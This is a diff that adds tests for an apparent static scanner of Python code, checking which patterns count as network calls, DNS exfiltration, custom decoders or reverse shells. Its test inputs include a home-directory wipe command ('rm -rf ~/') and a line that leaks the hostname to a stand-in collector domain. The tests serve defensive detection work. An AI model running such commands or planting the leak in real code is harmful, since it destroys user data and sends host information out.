@@ -484,3 +484,45 @@ test('a wiping command line that nothing runs or is handed is medium; one run or
   const script = 'import os\ndef wipe():\n    open("x.sh", "w").write("rm -rf ~/")\n    os.system("sh x.sh")\n';
   assert.equal(ruleOf(findings(script), 'destructive-command')?.severity, 'high', 'written to a script it runs');
 });
+
+test('a file path where a URL goes, a bracketed name and an invalid port name no hidden host', () => {
+  const path = 'from urllib import request\nROOT = "/usr/share/data/"\nrequest.urlopen(ROOT + "ext")\n';
+  const call = ruleOf(findings(path, 'demo/__init__.py'), 'egress-network-call');
+  assert.equal(call?.destination, undefined, 'a path is no host');
+  assert.notEqual(call?.severity, 'critical');
+  const bracketed = 'import socket\ndef connect(port):\n    return socket.create_connection(("[localhost]", port))\n';
+  assert.equal(ruleOf(findings(bracketed), 'egress-network-call'), undefined, 'the loopback in brackets');
+  const badPort = 'import websocket\ndef test_bad_port():\n    websocket.WebSocket().connect("ws://127.0.0.1:-1")\n';
+  assert.equal(ruleOf(findings(badPort), 'egress-network-call'), undefined, "a test's invalid port on the loopback");
+});
+
+test("looking up the machine's own name is not DNS exfiltration; its name under another domain is", () => {
+  const own = 'import socket\nNAMES = ["localhost", socket.gethostbyname(socket.gethostname())]\n';
+  assert.deepEqual(
+    findings(own).filter((f) => f.rule === 'exfiltration' || f.rule === 'egress-dns-lookup'),
+    [],
+  );
+  const leak = 'import socket\nsocket.gethostbyname(socket.gethostname() + ".collector.example")\n';
+  assert.equal(ruleOf(findings(leak), 'exfiltration')?.severity, 'high');
+});
+
+test('a code template filled in with format() is not cipher text; a daemon pointing stdout at /dev/null is no shell', () => {
+  const template = [
+    'def make(name):',
+    '    exec(("def {0}(self, *args):\\n"',
+    '          "\\treturn self.value.{0}(*[arg.value if isinstance(arg, Marked) else arg for arg in args])").format(name))',
+    '',
+  ].join('\n');
+  assert.equal(ruleOf(findings(template), 'exec-custom-decoder'), undefined);
+  const daemon = [
+    'import os, socket',
+    'def daemonize():',
+    '    os.open(os.devnull, os.O_RDWR)',
+    '    os.dup2(0, 1)',
+    '    os.dup2(0, 2)',
+    'def ping(host):',
+    '    return socket.create_connection((host, 80))',
+    '',
+  ].join('\n');
+  assert.equal(ruleOf(findings(daemon), 'reverse-shell'), undefined);
+});
